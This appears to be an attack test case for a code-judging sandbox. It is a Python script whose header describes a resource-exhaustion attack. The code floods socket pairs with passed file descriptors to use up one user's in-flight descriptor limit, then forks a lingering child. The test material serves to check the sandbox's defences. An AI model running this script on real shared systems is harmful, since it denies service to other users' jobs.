# attack: descriptors_in_flight
# kind: exhaust
# tries: has as many descriptors under way as one user may have, so that the copies of other submissions cannot hand over theirs
# seen: its own runs, or those of others at the same time, can no longer be asked about
# deserves: nothing
# extra: before 3.2a
# %%
import os, socket, time

null = os.open(os.devnull, os.O_RDONLY)
ends = [socket.socketpair() for _ in range(40)]
sent = 0
try:
    for _ in range(20):
        for end, _ in ends:
            end.setblocking(False)
            socket.send_fds(end, [b'x'], [null] * 20)
            sent += 20
except OSError as error:
    pass
if os.fork() == 0:
    time.sleep(30)
    os._exit(0)
